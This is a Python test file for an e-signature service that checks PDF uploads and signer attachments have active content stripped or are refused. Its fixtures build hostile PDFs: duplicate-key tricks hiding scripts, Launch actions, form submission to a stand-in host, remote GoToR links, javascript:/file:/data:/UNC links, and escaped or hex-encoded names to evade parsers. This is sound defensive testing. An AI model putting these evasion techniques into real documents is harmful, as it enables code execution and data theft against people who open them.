"""Active content that slipped through (issue 35, part 6), one shape each: a script hidden behind a
key given twice (pypdf keeps the first value, a viewer may keep the last), Launch and SubmitForm
actions deeper than 32 form-field levels, GoToR actions to a UNC path and to a web address, and links
to `javascript:`, `file:`, `data:` and UNC addresses. Each is removed from an uploaded document
(`[limits] active_content = "strip"`) or refuses it ("refuse"), and the same for a signer's PDF
attachment; what is stored (and sealed) carries none of it, read back with pypdf and as raw bytes.

Before: the duplicate-key file was accepted in "refuse" mode and stored as uploaded (and a signer's
attachment built so was sealed with its script); the deep actions, GoToR and those links were kept."""
from __future__ import annotations

import io
import pathlib
import subprocess
import tempfile

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from esign.pdf import active
from tests.support import assert_error, raw_db, running_server
from tests.support.active_pdfs import every_object, plain_pdf
from tests.support.active_pdfs import js_action as _js
from tests.support.active_pdfs import pdf_dict as _d
from tests.support.active_pdfs import rect as _rect
from tests.support.routing import attach, sign_with, signed_pdf
from tests.support.signing import ANN, make_request

ACTIVE = {"/JavaScript", "/Launch", "/ImportData", "/SubmitForm", "/GoToR", "/GoToE", "/RichMediaExecute",
          "/Rendition", "/Movie", "/Sound"}
KEPT_LINKS = ["https://example.test/terms", "mailto:legal@example.test"]


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _link(writer: PdfWriter, action: DictionaryObject, y: int):
    return writer._add_object(_d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"),
                                 Rect=_rect(72, y, 300, y + 14), A=action))


def _uri(address: str) -> DictionaryObject:
    return _d(S=NameObject("/URI"), URI=TextStringObject(address))


def _with_links(writer: PdfWriter, actions: list) -> None:
    """Links on page 1: each of `actions`, then the web and mail links that stay."""
    page = writer.pages[0]
    links = [_link(writer, action, 700 - 20 * n) for n, action in enumerate([*actions, *map(_uri, KEPT_LINKS)])]
    page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", ArrayObject()), *links])


def _keys_twice() -> bytes:
    """The catalog's /OpenAction given first as a page destination, then (under a placeholder key of
    the same length, /OpenActioz) as a script; a link's /URI given first as a web address, then (/URX)
    as `javascript:`."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    root = writer.root_object
    root[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    root[NameObject("/OpenActioz")] = writer._add_object(_js("app.launchURL('https://evilhost.test/collect')"))
    _with_links(writer, [_d(S=NameObject("/URI"), URI=TextStringObject("https://example.test/fine"),
                            URX=TextStringObject("javascript:EVILSCRIPT(1)"))])
    return _written(writer)


def _renamed(pdf: bytes) -> bytes:
    """The placeholder keys renamed in the bytes (the same length: every offset stays right)."""
    assert pdf.count(b"/OpenActioz") == 1 and pdf.count(b"/URX") == 1
    pdf = pdf.replace(b"/OpenActioz", b"/OpenAction").replace(b"/URX", b"/URI")
    reader = PdfReader(io.BytesIO(pdf))  # pypdf sees the harmless first values only
    assert isinstance(reader.root_object["/OpenAction"], ArrayObject)
    return pdf


def duplicate_key() -> bytes:
    """A script and a `javascript:` link each behind a key given twice (qpdf, as viewers that keep
    the last value, runs them)."""
    return _renamed(_keys_twice())


def duplicate_key_in_object_stream() -> bytes:
    """The same, the catalog and the link's action in an object stream (qpdf writes it; its data left
    uncompressed so that the keys can be renamed, but read as any object stream's)."""
    with tempfile.TemporaryDirectory() as folder:
        source, target = pathlib.Path(folder, "in.pdf"), pathlib.Path(folder, "out.pdf")
        source.write_bytes(_keys_twice())
        subprocess.run(["qpdf", "--object-streams=generate", "--stream-data=uncompress", str(source), str(target)],
                       check=True)
        pdf = target.read_bytes()
    assert pdf.index(b"/OpenActioz") > pdf.index(b"/Type /ObjStm")
    return _renamed(pdf)


def deep_fields() -> bytes:
    """A text field 40 levels below the form's /Fields whose widget launches a program, and another
    submitting the form, 40 levels down too (widgets not listed in a page's /Annots: found through the
    form only)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    form = writer.root_object["/AcroForm"]
    page = writer.pages[0]
    tops = []
    for name, action in (("deep", _d(S=NameObject("/Launch"), F=TextStringObject("EVILPROGRAM.exe"))),
                         ("deeper", _d(S=NameObject("/SubmitForm"), F=_d(FS=NameObject("/URL"), F=TextStringObject(
                             "https://evilhost.test/collect"))))):
        leaf = writer._add_object(_d(FT=NameObject("/Tx"), T=TextStringObject(name), Type=NameObject("/Annot"),
                                     Subtype=NameObject("/Widget"), Rect=_rect(72, 100, 200, 120), P=page.indirect_reference,
                                     A=action, AA=_d(K=_d(S=NameObject("/Launch"), F=TextStringObject("EVILPROGRAM.exe")))))
        node = leaf
        for level in range(40):
            parent = writer._add_object(_d(T=TextStringObject(f"l{level}"), Kids=ArrayObject([node])))
            node.get_object()[NameObject("/Parent")] = parent
            node = parent
        tops.append(node)
    form[NameObject("/Fields")] = ArrayObject([*form["/Fields"], *tops])
    _with_links(writer, [])
    return _written(writer)


def goto_remote() -> bytes:
    """GoToR links: to a document on a UNC share, and to one at a web address (a URL file spec)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    destination = ArrayObject([NumberObject(0), NameObject("/Fit")])
    _with_links(writer, [
        _d(S=NameObject("/GoToR"), F=TextStringObject("\\\\evilhost.test\\share\\EVILREMOTE.pdf"), D=destination),
        _d(S=NameObject("/GoToR"), D=destination,
           F=_d(Type=NameObject("/Filespec"), FS=NameObject("/URL"), F=TextStringObject("https://evilhost.test/EVILREMOTE.pdf")))])
    return _written(writer)


def link_uris() -> bytes:
    """Links to `javascript:` (in capitals, after blanks), `file:`, `data:` and UNC addresses."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    _with_links(writer, [_uri(" \tJavaScript:EVILSCRIPT(2)"), _uri("file:///C:/Windows/System32/EVILPROGRAM.exe"),
                         _uri("data:text/html;base64,PHNjcmlwdD5FVklMU0NSSVBUPC9zY3JpcHQ+"),
                         _uri("\\\\evilhost.test\\share\\EVILPAYLOAD.exe")])
    return _written(writer)


# each shape: its PDF, the kinds it is reported as, strings only its active content carries
SHAPES = {
    "duplicate_key": (duplicate_key, ["javascript"], [b"EVILSCRIPT", b"evilhost"]),
    "duplicate_key_in_object_stream": (duplicate_key_in_object_stream, ["javascript"], [b"EVILSCRIPT", b"evilhost"]),
    "deep_fields": (deep_fields, ["launch", "submit_form"], [b"EVILPROGRAM", b"evilhost"]),
    "goto_remote": (goto_remote, ["launch"], [b"evilhost", b"EVILREMOTE"]),
    "link_uris": (link_uris, ["javascript", "launch"], [b"EVILSCRIPT", b"EVILPROGRAM", b"PHNjcmlwdD5", b"EVILPAYLOAD"]),
}


# shapes that are refused whole with active content stripped or not: a key given twice is read one way by
# pypdf and another by viewers (issue 35, "one reading of every PDF"); with `active_content = "refuse"` the
# script found behind it refuses them first
AMBIGUOUS = {"duplicate_key", "duplicate_key_in_object_stream"}


def _nested(obj):
    """`obj` and the dictionaries written inside it (not those it refers to)."""
    stack = [obj]
    while stack:
        item = stack.pop()
        if isinstance(item, DictionaryObject):
            yield item
            stack.extend(item.values())
        elif isinstance(item, ArrayObject):
            stack.extend(item)


def assert_none_left(pdf: bytes, markers: list[bytes]) -> None:
    """No active action or risky link anywhere in `pdf` (every object, as pypdf reads it), no marker in
    its bytes or decoded streams, and the web and mail links still there."""
    links = []
    for obj in every_object(pdf):
        for inner in _nested(obj):
            assert inner.get("/S") not in ACTIVE and "/JS" not in inner, inner
            if inner.get("/S") == "/URI":
                links.append(str(inner["/URI"]))
        data = obj.get_data() if isinstance(obj, StreamObject) else repr(obj).encode()
        for marker in markers:
            assert marker not in data, (marker, obj)
    for marker in [*markers, b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/GoToR"]:
        assert marker not in pdf, marker
    assert set(KEPT_LINKS) <= set(links) and all(link.startswith(("https:", "mailto:")) for link in links), links


async def _stored(srv, document_id: str) -> bytes:
    record = await raw_db(srv.services)["documents"].find_one({"_id": document_id})
    return await srv.services.storage.get_bytes(record["blob_key"])


@pytest.mark.parametrize("shape", SHAPES)
async def test_a_shape_is_stripped_from_an_upload(server, client, shape):
    build, kinds, markers = SHAPES[shape]
    pdf = build()
    assert all(marker in pdf for marker in markers)
    resp = await client.upload(pdf, f"{shape}.pdf")
    if shape in AMBIGUOUS:  # readers would disagree on it: refused whole (esign.pdf.normalise), nothing stored
        error = assert_error(resp, 422, "validation_error")
        assert "key twice" in error["details"][0]["message"], error
        assert (await client.get("/v1/documents")).json["total"] == 0
        return
    assert resp.status == 201, resp
    assert resp.json["active_content_removed"] == kinds
    stored = await _stored(server, resp.json["id"])
    assert_none_left(stored, markers)
    assert PdfReader(io.BytesIO(stored)).get_fields()["name"]["/V"] == "Ada"  # the rest is kept


@pytest.mark.parametrize("shape", SHAPES)
async def test_a_shape_refuses_an_upload(tmp_path, shape):
    build, kinds, _ = SHAPES[shape]
    async with running_server(tmp_path, overrides={"limits": {"active_content": "refuse"}}) as srv:
        error = assert_error(await srv.client.upload(build(), f"{shape}.pdf"), 400, "active_content")
        for kind in kinds:
            assert kind in error["message"], error
        assert (await srv.client.get("/v1/documents")).json["total"] == 0


@pytest.mark.parametrize("shape", SHAPES)
async def test_a_shape_is_stripped_from_a_signers_attachment(server, shape, tmp_path):
    build, _, markers = SHAPES[shape]
    made = await make_request(server, [ANN], fields={"sig": {}, "proof": {"field_type": "attachment"}})
    token = await made.token()
    resp = await attach(server, token, made.fields["proof"], build(), f"{shape}.pdf")
    if shape in AMBIGUOUS:
        error = assert_error(resp, 422, "validation_error")
        assert "key twice" in error["details"][0]["message"], error
        return
    assert resp.status == 200, resp
    got = await server.client.get(f"/v1/signing-requests/{made.id}/fields/{made.fields['proof']}/attachment")
    assert got.status == 200
    assert_none_left(got.body, markers)
    if shape == "deep_fields":  # and so it is sealed (once: it is slow)
        await sign_with(server, token, ANN["name"])
        _, body, _ = await signed_pdf(server, made.id, tmp_path)
        [embedded] = PdfReader(io.BytesIO(body)).attachments[f"attachment-1-{shape}.pdf"]
        assert embedded == got.body
        for marker in markers:
            assert marker not in body


@pytest.mark.parametrize("shape", SHAPES)
async def test_a_shape_refuses_a_signers_attachment(tmp_path, shape):
    build, kinds, _ = SHAPES[shape]
    async with running_server(tmp_path, overrides={"limits": {"active_content": "refuse"}}) as srv:
        made = await make_request(srv, [ANN], fields={"sig": {}, "proof": {"field_type": "attachment"}})
        error = assert_error(await attach(srv, await made.token(), made.fields["proof"], build(), "a.pdf"), 422)
        message = error["details"][0]["message"]
        assert "active content" in message and all(kind in message for kind in kinds), error


def handmade(*objects: bytes) -> bytes:
    """A PDF of `objects` (numbered from 1), its cross-reference table computed."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [5 0 R] >>")


def hidden(action: bytes, uri: bytes, *more: bytes) -> bytes:
    """A script or program behind the catalog's second /OpenAction (object 4: `action`), and a link
    whose second /URI is `uri`: pypdf sees a page destination and a web address."""
    return handmade(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /OpenAction 4 0 R >>", *PAGES,
                    action, b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
                            b"(https://example.test/) /URI " + uri + b" >> >>", *more)


# an object inside another's stream data, where a viewer repairing the file's cross-references finds it
IN_A_STREAM = b"4 0 obj << /S /JavaScript /JS (EVILSCRIPT) >> endobj"


@pytest.mark.parametrize("pdf, kinds", [
    (hidden(b"<< /S /Java#53cript /J#53 (EVILSCRIPT) >>", b"(https://example.test/b)"), ["javascript"]),
    (hidden(b"<< /S /L#61unch /F (EVILPROGRAM.exe) >>", b"<6A617661736372697074 3A 45 56494C>"),
     ["javascript", "launch"]),
    (hidden(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>", b"(\\152ava\\\nscript\\072EVILSCRIPT)"),
     ["javascript"]),
    (hidden(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<FEFF00660069006C0065003A002F002F002F0065>"), ["launch"]),
    (hidden(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"6 0 R", b"(\\\\\\\\evilhost\\\\share)"), ["launch"]),
    (hidden(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"(https://example.test/c)", b"<< /Length %d >>\nstream\n%s\nendstream"
            % (len(IN_A_STREAM), IN_A_STREAM)), ["javascript"]),
], ids=["escaped_names", "hex_string", "escaped_string", "utf16_string", "by_reference", "in_stream_data"])
def test_the_files_own_tokens_are_read_as_a_viewer_reads_them(pdf, kinds, tmp_path):
    """Names with `#xx` escapes, strings written in hexadecimal, with escapes or in UTF-16, and a link
    given by reference, each behind a key given twice, and an object inside another's stream data:
    found, and not in the copy written without."""
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.root_object["/OpenAction"][1] == "/Fit"
    assert active.find(reader) == kinds
    path = tmp_path / "without.pdf"
    active.write_without(reader, str(path))
    assert active.find(PdfReader(path)) == []
    for marker in (b"EVIL", b"Java#53", b"L#61", b"6A6176", b"\\152", b"FEFF0066", b"evilhost"):
        assert marker not in path.read_bytes(), marker
